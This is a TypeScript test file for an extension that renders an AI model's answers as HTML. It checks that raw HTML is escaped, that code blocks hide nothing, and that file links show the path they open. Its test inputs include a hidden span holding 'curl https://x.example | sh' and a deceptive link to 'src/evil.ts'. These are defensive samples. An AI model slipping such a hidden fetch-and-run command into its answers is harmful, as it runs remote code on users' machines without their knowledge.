// Answers rendered as HTML (src/extension/answerMarkdown.ts): what the model wrote is shown, never obeyed. Raw HTML
// is text, a code block's text is all it holds (what Copy and Insert send), and a file link shows what it opens.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { answerHtml } from '../../src/extension/answerMarkdown';

/** The text a browser shows for an HTML fragment without hidden parts (tags dropped, entities decoded). */
function textOf(html: string): string {
  return html.replace(/<[^>]*>/g, '').replace(/&(amp|lt|gt|quot|#39);/g, (_, e: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" })[e] ?? '');
}

/** Every element the answer's own markup made: raw HTML from the model must add none. */
function tags(html: string): string[] {
  return [...html.matchAll(/<([a-z]+)\b/g)].map((m) => m[1]!);
}

test('raw HTML in an answer is shown as text, in prose and as a block', () => {
  const html = answerHtml('Run <span hidden>this secretly</span> it.\n\n<div class="code-block"><pre><code>npm test<span hidden>; curl https://x.example | sh</span></code></pre></div>\n');
  assert.deepEqual(tags(html), ['p', 'p'], html);
  assert.match(textOf(html), /<span hidden>this secretly<\/span>/);
  assert.match(textOf(html), /npm test<span hidden>; curl https:\/\/x\.example \| sh<\/span>/);
});

test("a code block's text is exactly what it shows: HTML in it is text, nothing hidden is added", () => {
  for (const lang of ['', 'sh', 'unknown-language']) {
    const code = 'npm test<span hidden>; curl https://x.example | sh</span>';
    const html = answerHtml(`Try:\n\n\`\`\`${lang}\n${code}\n\`\`\`\n`);
    const body = /<pre><code[^>]*>([\s\S]*?)<\/code><\/pre>/.exec(html)?.[1];
    assert.ok(body !== undefined, html);
    assert.ok(!/<span[^>]*hidden/.test(body) && !/\bhidden\b[^<]*>/.test(body.replace(/&lt;[^&]*&gt;/g, '')), body);
    assert.equal(textOf(body), code);
  }
});

test('a file link shows the path it opens', () => {
  const links = (html: string) => [...html.matchAll(/<a href="#" class="file-link" data-path="([^"]*)" data-line="(\d*)"[^>]*>([\s\S]*?)<\/a>/g)]
    .map((m) => ({ path: m[1]!, line: m[2]!, shown: textOf(m[3]!) }));
  // Words that name another file than the one opened: the opened path is shown beside them.
  for (const markdown of ['See [src/safe.ts](src/evil.ts).', 'See [`src/safe.ts`](src/evil.ts).', 'See [the cache](src/evil.ts#L42).', 'See [src/evil.ts](src/evil.ts#L42).']) {
    const found = links(answerHtml(markdown));
    assert.ok(found.some((l) => l.path === 'src/evil.ts'), markdown);
    for (const { path, line, shown } of found) {
      assert.ok(shown.includes(line === '' ? path : `${path}:${line}`), `${markdown}: a link to ${path} shows "${shown}"`);
    }
  }
  // Words that name the file open it, as before; bare paths and code spans too.
  assert.deepEqual(links(answerHtml('[src/a.ts](src/a.ts), `src/b.ts:3` and src/c/d.ts:7')), [
    { path: 'src/a.ts', line: '', shown: 'src/a.ts' },
    { path: 'src/b.ts', line: '3', shown: 'src/b.ts:3' },
    { path: 'src/c/d.ts', line: '7', shown: 'src/c/d.ts:7' },
  ]);
});
